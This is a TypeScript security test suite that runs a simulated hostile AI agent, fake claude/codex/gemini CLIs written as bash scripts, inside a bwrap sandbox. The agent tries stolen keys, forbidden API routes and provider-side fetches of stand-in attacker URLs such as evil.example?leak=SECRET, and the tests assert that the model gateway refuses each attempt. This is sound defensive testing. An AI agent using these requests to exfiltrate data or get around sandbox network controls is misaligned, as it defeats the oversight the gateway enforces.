/**
 * Issue 17 item 6, attacked through dist/ the way the runner runs it: a
 * hostile agent in bwrap (a preinstalled `claude` / `codex` / `gemini` that is
 * really a bash script) calls the model gateway it was given with a wrong or
 * missing key, other methods and paths (batches, files, stored responses,
 * DELETE), and model requests that would make the provider fetch URLs or
 * search the web for it. On the host afterwards: the upstream model API
 * received only the one honest request, each refusal is in the trace as
 * network_blocked, and the statuses are the provider-shaped ones the CLI sees.
 */
import { chmodSync, mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { attackReport, blockedAttempts } from "../support/attack-report.js";
import { runActionSteps } from "../support/harness.js";
import { makeWorkspace } from "../agents/helpers.js";
import { recordingServer } from "../sandbox/helpers.js";

const REAL_KEY = "sk-real-model-key-0123456789abcdef";

let upstream: Awaited<ReturnType<typeof recordingServer>>;
beforeAll(async () => {
  upstream = await recordingServer();
});
afterAll(() => upstream.close());

/** A bin folder whose `bin` is `script` (installRoot takes the folder above bin/ as the install). */
function fakeCli(bin: string, script: string): string {
  const root = mkdtempSync(path.join(os.tmpdir(), "sec-gw-cli-"));
  mkdirSync(path.join(root, "bin"));
  const file = path.join(root, "bin", bin);
  writeFileSync(file, `#!/bin/bash\n${script}\necho "REPORT done=1"\n`);
  chmodSync(file, 0o755);
  return path.join(root, "bin");
}

/** curl against the gateway: prints `REPORT <name>=<http status>`. */
const CURL = `c() { local name=$1; shift; code=$(curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' -m 10 "$@" 2>/dev/null); echo "REPORT $name=$code"; }`;

async function attack(cli: "claude" | "codex" | "gemini", script: string, inputs: Record<string, string>, network = "model-only") {
  const bin = fakeCli(cli, `${CURL}\n${script}`);
  const before = upstream.requests.length;
  const { main } = await runActionSteps({
    workspace: makeWorkspace(),
    inputs: { agent: cli, "agent-version": "preinstalled", prompt: "attack", sandbox: "bwrap", network, comment: "none", "upload-artifacts": "false", ...inputs },
    env: { PATH: `${bin}:/usr/local/bin:/usr/bin:/bin` },
  });
  return { main, report: attackReport(main), blocked: blockedAttempts(main), received: upstream.requests.slice(before) };
}

const json = (v: unknown) => `'${JSON.stringify(v)}'`;
const MSG = { model: "m", max_tokens: 10, messages: [{ role: "user", content: "hi" }] };

describe("model gateway under attack from the agent (bwrap, through dist/)", () => {
  it("anthropic: wrong/missing keys, other methods and paths, and provider-side fetching are refused; only the honest request arrives", async () => {
    const K = `-H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json'`;
    const B = `"$ANTHROPIC_BASE_URL"`;
    const { report, blocked, received } = await attack(
      "claude",
      `
c honest ${K} -d ${json({ ...MSG, messages: [{ role: "user", content: "HONEST" }] })} ${B}/v1/messages
c no_key -H 'content-type: application/json' -d ${json(MSG)} ${B}/v1/messages
c wrong_key -H "x-api-key: sk-ant-api03-stolen" -d ${json(MSG)} ${B}/v1/messages
c extra_bearer ${K} -H "Authorization: Bearer sk-ant-other" -d ${json(MSG)} ${B}/v1/messages
c delete -X DELETE ${K} ${B}/v1/messages
c batches ${K} -d '{}' ${B}/v1/messages/batches
c files ${K} ${B}/v1/files
c web_fetch ${K} -d ${json({ ...MSG, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] })} ${B}/v1/messages
c web_search ${K} -d ${json({ ...MSG, tools: [{ type: "web_search_20250305", name: "web_search" }] })} ${B}/v1/messages
c mcp ${K} -d ${json({ ...MSG, mcp_servers: [{ type: "url", url: "https://evil.example/mcp", name: "x" }] })} ${B}/v1/messages
c url_image ${K} -d ${json({ ...MSG, messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: "https://evil.example/?leak=SECRET" } }] }] })} ${B}/v1/messages
`,
      { "base-url": upstream.url, secrets: `ANTHROPIC_API_KEY=${REAL_KEY}` },
    );
    expect(report).toMatchObject({
      done: "1",
      honest: "200",
      no_key: "401",
      wrong_key: "401",
      extra_bearer: "401",
      delete: "405",
      batches: "404",
      files: "404",
      web_fetch: "403",
      web_search: "403",
      mcp: "403",
      url_image: "403",
    });
    // Only the honest request reached the model API, with the real key and nothing the agent sent as a credential.
    expect(received.map((r) => `${r.method} ${r.url}`)).toEqual(["POST /v1/messages"]);
    expect(received[0]!.body).toContain("HONEST");
    expect(received[0]!.headers["x-api-key"]).toBe(REAL_KEY);
    const details = blocked.map((b) => b.detail).join("\n");
    for (const frag of ["carries no API key", "an API key other than", "DELETE /v1/messages: method not allowed", "POST /v1/messages/batches: not a model API route", "GET /v1/files", "server-side web fetch", "server-side web search", "remote MCP connector", "fetch https://evil.example/?leak=SECRET"])
      expect(details).toContain(frag);
    expect(blocked.every((b) => b.host === `${new URL(upstream.url).host} (model gateway)`)).toBe(true);
  });

  it("openai (codex): Bearer and ?key= credentials, stored responses, files, web_search and remote MCP are refused", async () => {
    const base = `$(grep -o 'http://127.0.0.1:[0-9]*/v1' "$CODEX_HOME/config.toml" | head -1)`;
    const K = `-H "Authorization: Bearer $OPENAI_API_KEY" -H 'content-type: application/json'`;
    const R = { model: "m", input: "hi" };
    const { report, received } = await attack(
      "codex",
      `
B=${base}
c honest ${K} -d ${json({ ...R, input: "HONEST" })} "$B/responses"
c wrong_bearer -H "Authorization: Bearer sk-stolen" -d ${json(R)} "$B/responses"
c org_header ${K} -H "OpenAI-Organization: org-evil" -H "Cookie: a=b" -H "X-Forwarded-For: 10.0.0.1" -d ${json({ ...R, input: "HEADERS" })} "$B/responses"
c get_stored ${K} "$B/responses/resp_123"
c delete_stored -X DELETE ${K} "$B/responses/resp_123"
c stored_chat ${K} "$B/chat/completions"
c files ${K} "$B/files"
c batches ${K} -d '{}' "$B/batches"
c web_search ${K} -d ${json({ ...R, tools: [{ type: "web_search" }] })} "$B/responses"
c mcp ${K} -d ${json({ ...R, tools: [{ type: "mcp", server_label: "x", server_url: "https://evil.example/mcp" }] })} "$B/responses"
c chat_search ${K} -d ${json({ model: "m", messages: [{ role: "user", content: "hi" }], web_search_options: {} })} "$B/chat/completions"
`,
      { "base-url": `${upstream.url}/v1`, secrets: `OPENAI_API_KEY=${REAL_KEY}`, model: "gpt-5.5" },
    );
    expect(report).toMatchObject({
      done: "1",
      honest: "200",
      wrong_bearer: "401",
      org_header: "200",
      get_stored: "404",
      delete_stored: "404",
      stored_chat: "405",
      files: "404",
      batches: "404",
      web_search: "403",
      mcp: "403",
      chat_search: "403",
    });
    expect(received.map((r) => `${r.method} ${r.url}`)).toEqual(["POST /v1/responses", "POST /v1/responses"]);
    const headers = received.find((r) => r.body.includes("HEADERS"))!.headers;
    // Headers outside the allowlist never leave: no billing target, no cookie, no forwarding claims.
    expect(headers["openai-organization"]).toBeUndefined();
    expect(headers.cookie).toBeUndefined();
    expect(headers["x-forwarded-for"]).toBeUndefined();
    expect(headers.authorization).toBe(`Bearer ${REAL_KEY}`);
  });

  it("gemini: x-goog-api-key and ?key= must be the placeholder; googleSearch, urlContext and a URL file are refused", async () => {
    const K = `-H "x-goog-api-key: $GEMINI_API_KEY" -H 'content-type: application/json'`;
    const G = `"$GOOGLE_GEMINI_BASE_URL/v1beta/models/gemini-2.5-pro:generateContent"`;
    const C = { contents: [{ role: "user", parts: [{ text: "hi" }] }] };
    const { report, received } = await attack(
      "gemini",
      `
c honest ${K} -d ${json({ contents: [{ role: "user", parts: [{ text: "HONEST" }] }] })} ${G}
c wrong_query_key -H 'content-type: application/json' -d ${json(C)} "$GOOGLE_GEMINI_BASE_URL/v1beta/models/gemini-2.5-pro:generateContent?key=AIza-stolen"
c wrong_header_key -H "x-goog-api-key: AIza-stolen" -d ${json(C)} ${G}
c list_models ${K} "$GOOGLE_GEMINI_BASE_URL/v1beta/models"
c upload ${K} -d '{}' "$GOOGLE_GEMINI_BASE_URL/upload/v1beta/files"
c google_search ${K} -d ${json({ ...C, tools: [{ googleSearch: {} }] })} ${G}
c url_context ${K} -d ${json({ ...C, tools: [{ url_context: {} }] })} ${G}
c file_uri ${K} -d ${json({ contents: [{ role: "user", parts: [{ fileData: { fileUri: "https://evil.example/?leak=1", mimeType: "text/html" } }] }] })} ${G}
`,
      { "base-url": upstream.url, secrets: `GEMINI_API_KEY=${REAL_KEY}`, model: "gemini-2.5-pro" },
    );
    expect(report).toMatchObject({
      done: "1",
      honest: "200",
      wrong_query_key: "401",
      wrong_header_key: "401",
      list_models: "404",
      upload: "404",
      google_search: "403",
      url_context: "403",
      file_uri: "403",
    });
    expect(received.map((r) => `${r.method} ${r.url}`)).toEqual(["POST /v1beta/models/gemini-2.5-pro:generateContent"]);
  });

  it("network: open lets provider-side fetching through (there is no policy to get around), the key check still holds", async () => {
    const K = `-H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json'`;
    const { report, received } = await attack(
      "claude",
      `
c web_fetch ${K} -d ${json({ ...MSG, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] })} "$ANTHROPIC_BASE_URL/v1/messages"
c wrong_key -H "x-api-key: sk-ant-api03-stolen" -d ${json(MSG)} "$ANTHROPIC_BASE_URL/v1/messages"
`,
      { "base-url": upstream.url, secrets: `ANTHROPIC_API_KEY=${REAL_KEY}` },
      "open",
    );
    expect(report).toMatchObject({ done: "1", web_fetch: "200", wrong_key: "401" });
    expect(received).toHaveLength(1);
    expect(received[0]!.body).toContain("web_fetch_20250910");
  });
});
